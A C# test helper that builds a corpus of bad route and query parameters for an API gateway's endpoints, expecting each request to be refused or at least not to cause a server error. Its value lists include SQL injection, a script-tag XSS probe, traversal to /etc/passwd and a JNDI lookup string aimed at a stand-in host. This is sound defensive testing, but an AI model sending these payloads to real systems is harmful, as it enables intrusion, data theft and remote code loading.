using System.Reflection;
using System.Text;
using Microsoft.AspNetCore.Mvc;
using Microsoft.AspNetCore.Routing;

namespace Intelligence.Gateway.Tests.BadInput;

/// <summary>
/// Bad route and query parameters for one endpoint: each route parameter given a traversal, injection or Unicode
/// string (the rest of the request valid), and each query parameter of the handler a value its type cannot take.
/// Free-text query parameters may legitimately hold any string, so they are probed for server errors only.
/// </summary>
internal static class ParameterCorpus
{
    private static readonly Type[] TextTypes = [typeof(string)];
    private static readonly Type[] Integers = [typeof(int), typeof(long), typeof(short)];
    private static readonly Type[] Numbers = [typeof(decimal), typeof(double), typeof(float)];

    public static IEnumerable<CorpusItem> For(string service, string method, RouteEndpoint endpoint, byte[]? validBody, string? contentType)
    {
        foreach (var parameter in endpoint.RoutePattern.Parameters)
        {
            foreach (var (kind, value) in HostileValues.ForPaths)
            {
                var path = endpoint.RoutePattern.RawText!.Replace($"{{{parameter.Name}}}", Uri.EscapeDataString(value), StringComparison.Ordinal);
                path = ServiceEndpoints.Concrete(path);
                yield return new CorpusItem(service, "route-parameter", $"{parameter.Name} {kind}: '{Shown(value)}'", method, path, validBody, contentType);
            }
        }

        var handler = endpoint.Metadata.OfType<MethodInfo>().FirstOrDefault();
        var routeNames = endpoint.RoutePattern.Parameters.Select(p => p.Name).ToHashSet(StringComparer.OrdinalIgnoreCase);
        var basePath = ServiceEndpoints.Concrete(endpoint);
        foreach (var parameter in handler?.GetParameters() ?? [])
        {
            if (parameter.Name is not { } name || routeNames.Contains(name) || parameter.GetCustomAttribute<FromServicesAttribute>() is not null)
            {
                continue;
            }

            var type = Nullable.GetUnderlyingType(parameter.ParameterType) ?? parameter.ParameterType;
            var (values, expectation) = InvalidValuesOf(type);
            foreach (var value in values)
            {
                yield return new CorpusItem(
                    service,
                    expectation == Expectation.Refusal ? "query-parameter" : "free-text-query",
                    $"{name} ({type.Name}) = '{Shown(value)}'",
                    method,
                    $"{basePath}?{name}={Uri.EscapeDataString(value)}",
                    validBody,
                    contentType,
                    expectation,
                    Field: expectation == Expectation.Refusal ? name : null);
            }
        }
    }

    /// <summary>Values the parameter's type cannot take; for free text, hostile strings any answer but a 5xx may meet.</summary>
    private static (IReadOnlyList<string> Values, Expectation Expectation) InvalidValuesOf(Type type)
    {
        if (type == typeof(DateOnly) || type == typeof(DateTime) || type == typeof(DateTimeOffset))
        {
            return (["2024-13-45", "2024-02-30", "99999-01-01", "' OR 1=1 --", "<script>alert(1)</script>"], Expectation.Refusal);
        }

        if (Integers.Contains(type))
        {
            return (["abc", "1.5", "99999999999999999999", "' OR 1=1 --"], Expectation.Refusal);
        }

        if (Numbers.Contains(type))
        {
            return (["abc", "' OR 1=1 --"], Expectation.Refusal);
        }

        if (type == typeof(bool))
        {
            return (["maybe", "2"], Expectation.Refusal);
        }

        if (type.IsEnum)
        {
            return (["not-a-value", "<script>alert(1)</script>"], Expectation.Refusal);
        }

        if (TextTypes.Contains(type))
        {
            return (["' OR 1=1 --", "../../etc/passwd", "${jndi:ldap://x.example/a}", "rtl\u202Eoverride", new string('a', 2000)], Expectation.NoServerError);
        }

        // Services, the request, cancellation tokens and bodies are not query parameters.
        return ([], Expectation.Refusal);
    }

    private static string Shown(string value) =>
        value.Length > 40 ? $"{value[..10]}... ({value.Length} chars)" : new StringBuilder(value).Replace("\0", "\\0").Replace("\n", "\\n").ToString();
}
